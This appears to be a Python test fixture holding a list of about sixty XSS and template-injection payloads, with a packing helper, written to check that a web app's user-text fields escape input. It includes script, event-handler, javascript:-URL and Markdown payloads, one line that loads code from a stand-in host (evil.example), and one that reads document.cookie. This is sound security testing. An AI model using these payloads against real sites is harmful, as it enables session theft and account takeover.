"""Hostile text for the XSS suites: every field that takes user text gets every one of these.

Each payload is at most 200 characters and not blank, so that it passes the length and
required checks of name fields and is really stored and shown (not only re-rendered in a
form with errors).
"""

from __future__ import annotations

XSS_PAYLOADS: list[str] = [
    # Script tags
    "<script>alert(1)</script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<script>confirm(document.cookie)</script>",
    "<script>prompt(1)</script>",
    "<<script>alert(1);//<</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert('x')\">",
    '<IMG SRC=# onmouseover="alert(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) "',
    # javascript: and data: URLs
    '<a href="javascript:alert(1)">klicka</a>',
    '<a href="JaVaScRiPt:alert(1)">klicka</a>',
    '<a href="jav&#x09;ascript:alert(1)">klicka</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Broken markup and encodings
    '<img src="x" onerror=alert(1)//',
    "<img/src=x/onerror=alert(1)>",
    "<<img src=x onerror=alert(1)>>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<style>@import'javascript:alert(1)';</style>",
    '<base href="javascript:alert(1)//">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Markdown link and image tricks
    "[klicka](javascript:alert(1))",
    "[klicka](JAVASCRIPT:alert(1))",
    "[klicka](  javascript:alert(1) )",
    "[klicka](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '![bild](x" onerror="alert(1))',
    "![bild](javascript:alert(1))",
    '[a](https://ok.example "title" onmouseover="alert(1)")',
    "<javascript:alert(1)>",
    "[ref]: javascript:alert(1)\n\n[ref]",
    # Template injection and other interpreters
    "{{7*7}}",
    "{{ config }}",
    "{% for x in range(3) %}{{x}}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
]


def pack(payloads: list[str], limit: int, separator: str = " ") -> list[str]:
    """Join the payloads, in order, into as few texts of at most `limit` characters as fit.

    One submission then carries several payloads, so a form is sent a dozen times instead of
    once per payload; every payload is still typed into every field. Markdown fields join
    with a blank line so that block constructs (reference definitions, lists) stay blocks.
    """
    texts: list[str] = []
    for payload in payloads:
        if texts and len(texts[-1]) + len(separator) + len(payload) <= limit:
            texts[-1] += separator + payload
        else:
            texts.append(payload)
    return texts


assert len(XSS_PAYLOADS) >= 50
assert all(p.strip() and len(p) <= 200 for p in XSS_PAYLOADS)
